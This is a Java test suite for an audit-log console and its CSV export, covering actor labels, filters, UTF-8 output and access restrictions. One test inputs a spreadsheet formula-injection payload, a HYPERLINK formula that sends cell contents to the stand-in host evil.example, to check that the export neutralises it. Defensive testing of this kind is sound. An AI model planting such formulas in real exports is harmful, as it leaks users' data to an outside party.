package org.gongkai.audit;

import static org.assertj.core.api.Assertions.assertThat;
import static org.springframework.test.web.servlet.request.MockMvcRequestBuilders.get;
import static org.springframework.test.web.servlet.result.MockMvcResultMatchers.status;

import java.io.StringReader;
import java.nio.charset.StandardCharsets;
import java.time.LocalDate;
import java.util.List;

import org.apache.commons.csv.CSVFormat;
import org.apache.commons.csv.CSVRecord;

import org.gongkai.common.DemoClock;
import org.gongkai.support.GongkaiTest;
import org.gongkai.support.Sessions;
import org.junit.jupiter.api.Test;
import org.springframework.beans.factory.annotation.Autowired;
import org.springframework.context.ApplicationEventPublisher;
import org.springframework.jdbc.core.JdbcTemplate;
import org.springframework.test.web.servlet.MockMvc;

/** The audit viewer and its CSV export, for those who may read the log and for no one else. */
@GongkaiTest
class AuditConsoleTest {

	@Autowired
	MockMvc mvc;

	@Autowired
	ApplicationEventPublisher events;

	@Autowired
	JdbcTemplate jdbc;

	@Test
	void whatTheDemoLoadersEnteredIsTheDemoDatasNotTheSystemsAndTheLogSaysSoInWords() throws Exception {
		assertThat(jdbc.queryForObject("select count(*) from audit_entry where action = 'request.assigned' and actor = ?",
				Long.class, "demo-data")).as("the demo applications' assignments").isPositive();
		DemoClock.on(LocalDate.of(2026, 11, 2), () -> events.publishEvent(
				AuditEvent.of("request.assigned", "DisclosureRequest", "YS-ACTOR-DEMO", "ASSIGNED: 法规处")));
		events.publishEvent(AuditEvent.of("request.assigned", "DisclosureRequest", "YS-ACTOR-SYSTEM", "ASSIGNED: 法规处"));
		assertThat(jdbc.queryForList("select actor from audit_entry where object_id like 'YS-ACTOR-%' order by object_id",
				String.class)).containsExactly("demo-data", "system");
		for (String[] language : new String[][] { { "zh-CN", "演示数据" }, { "en", "Demo data" } }) {
			String page = mvc.perform(get("/admin/audit").param("objectId", "YS-ACTOR-DEMO").param("lang", language[0])
				.with(Sessions.demo(mvc, "office"))).andExpect(status().isOk()).andReturn().getResponse()
				.getContentAsString(StandardCharsets.UTF_8);
			assertThat(page).contains("<td>" + language[1] + "</td>");
		}
	}

	@Test
	void theDisclosureOfficeFiltersTheLogByActorAndAction() throws Exception {
		String page = mvc.perform(get("/admin/audit").param("actor", "system").param("action", "staff.").with(Sessions.demo(mvc, "office")))
			.andExpect(status().isOk())
			.andReturn()
			.getResponse()
			.getContentAsString(StandardCharsets.UTF_8);
		assertThat(page).contains("created admin in 湖南省人力资源和社会保障厅").doesNotContain("signed in to the console");
	}

	@Test
	void theExportIsACsvWithAHeaderEveryMatchingRowAndChineseIntact() throws Exception {
		var response = mvc.perform(get("/admin/audit/export.csv").param("action", "staff.created")
			.with(Sessions.admin(mvc))).andExpect(status().isOk()).andReturn().getResponse();
		assertThat(response.getContentType()).startsWith("text/csv");
		assertThat(response.getHeader("Content-Disposition")).contains("audit-log.csv");
		String csv = response.getContentAsString(StandardCharsets.UTF_8);
		assertThat(csv).startsWith("\uFEFFid,time,actor,unit,action");
		assertThat(csv.lines().skip(1)).allMatch(line -> line.contains("staff.created"));
		assertThat(csv).contains("created office in 办公室");
	}

	@Test
	void textThatASpreadsheetWouldRunAsAFormulaIsExportedAsText() throws Exception {
		String title = "=HYPERLINK(\"http://evil.example/?\"&A1,\"点此\")";
		events.publishEvent(AuditEvent.of("test.formula", "Document", 42, title));
		events.publishEvent(AuditEvent.of("test.formula", "Document", 43, "\t+1-2"));
		String csv = mvc.perform(get("/admin/audit/export.csv").param("action", "test.formula")
			.with(Sessions.admin(mvc))).andExpect(status().isOk()).andReturn().getResponse()
			.getContentAsString(StandardCharsets.UTF_8);
		List<CSVRecord> rows = CSVFormat.DEFAULT.builder().setHeader().setSkipHeaderRecord(true).get()
			.parse(new StringReader(csv.substring(1))).getRecords();
		assertThat(rows).extracting(row -> row.get("summary")).containsExactly("'" + title, "'\t+1-2");
		assertThat(rows).extracting(row -> row.get("id")).allMatch(id -> id.matches("\\d+"));
	}

	@Test
	void unitStaffCannotReadTheLog() throws Exception {
		mvc.perform(get("/admin/audit").with(Sessions.demo(mvc, "editor"))).andExpect(status().isForbidden());
		mvc.perform(get("/admin/audit/export.csv").with(Sessions.demo(mvc, "head"))).andExpect(status().isForbidden());
	}

}
